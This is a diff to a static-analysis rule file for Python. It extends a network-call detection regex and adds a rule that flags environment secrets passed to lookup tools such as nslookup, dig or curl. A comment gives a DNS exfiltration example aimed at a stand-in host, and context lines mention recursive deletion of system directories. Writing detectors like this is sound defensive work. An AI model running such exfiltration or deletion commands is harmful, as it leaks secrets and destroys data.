@@ -27,7 +27,7 @@
  (#set! message "loads a shared library into SQLite (load_extension), native code that bypasses everything Python checks"))
 
 ((call function: (_) @fn) @finding
- (#resolves-to? @fn "socket\\.(socket|create_connection|create_server|socketpair|fromfd)|urllib\\.request\\.(urlopen|urlretrieve|Request)|urllib3\\..*|http\\.client\\.HTTPS?Connection|requests\\.(get|post|put|patch|delete|head|request|Session)|httpx\\..*|aiohttp\\..*|asyncio\\.open_(connection|unix_connection)|(ftplib|smtplib|telnetlib|poplib|imaplib|xmlrpc\\.client)\\..*|paramiko\\..*|urllib\\.request\\.(build_opener|OpenerDirector)|logging\\.handlers\\.(HTTPHandler|SocketHandler|DatagramHandler|SMTPHandler|SysLogHandler)|multiprocessing\\.connection\\.Client|http\\.server\\.(HTTPServer|ThreadingHTTPServer)|socketserver\\.(TCPServer|ThreadingTCPServer|UDPServer|ThreadingUDPServer|ForkingTCPServer)|xmlrpc\\.server\\..*|asyncio\\.start_server|wsgiref\\.simple_server\\.make_server")
+ (#resolves-to? @fn "socket\\.(socket|create_connection|create_server|socketpair|fromfd)|urllib\\.request\\.(urlopen|urlretrieve|Request)|urllib3\\..*|http\\.client\\.HTTPS?Connection|requests\\.(get|post|put|patch|delete|head|request|Session)|httpx\\..*|aiohttp\\..*|asyncio\\.open_(connection|unix_connection)|(ftplib|smtplib|telnetlib|poplib|imaplib|xmlrpc\\.client)\\..*|paramiko\\..*|urllib\\.request\\.(build_opener|OpenerDirector)|logging\\.handlers\\.(HTTPHandler|SocketHandler|DatagramHandler|SMTPHandler|SysLogHandler)|multiprocessing\\.connection\\.Client|http\\.server\\.(HTTPServer|ThreadingHTTPServer)|_socket\\.(socket|socketpair|fromfd)|ssl\\.(create_connection|wrap_socket|SSLSocket)|asyncio\\.(get_running_loop|get_event_loop|new_event_loop)\\(\\)\\.(create_connection|create_datagram_endpoint|create_unix_connection|sock_connect|create_server)|webbrowser\\.(open|open_new|open_new_tab)|multiprocessing\\.managers\\.(BaseManager|SyncManager)|socketserver\\.(TCPServer|ThreadingTCPServer|UDPServer|ThreadingUDPServer|ForkingTCPServer)|xmlrpc\\.server\\..*|asyncio\\.start_server|wsgiref\\.simple_server\\.make_server")
  (#set! id "py-network")
  (#set! severity "warn")
  (#set! message "opens a network connection"))
@@ -219,6 +219,18 @@
  (#set! id "py-dns-exfil")
  (#set! severity "high")
  (#set! message "puts a value of the environment into a host name it looks up: a secret sent out through DNS"))
+
+; subprocess.run(["nslookup", os.environ["KEY"] + ".exfil.example"]): the
+; same through a program that looks a name up (nslookup, dig, host, ping)
+((call
+   function: (_) @fn
+   arguments: (argument_list) @cmd) @finding
+ (#match? @cmd "environ|getenv")
+ (#resolves-to? @fn "subprocess\\.(run|call|check_call|check_output|Popen)|asyncio\\.create_subprocess_exec|os\\.(exec[lv]p?e?|spawn[lv]p?e?|posix_spawnp?)")
+ (#value-match? @cmd "^'?(\\S*/)?(nslookup|dig|host|drill|ping|ping6|getent|traceroute|curl|wget)'? ")
+ (#set! id "py-dns-exfil")
+ (#set! severity "high")
+ (#set! message "puts a value of the environment into the command line of a program that looks a name up or connects: a secret sent out"))
 
 ; for d in ("/home", "/root", "/etc"): shutil.rmtree(d): system or home
 ; directories named in the loop's own list, each deleted
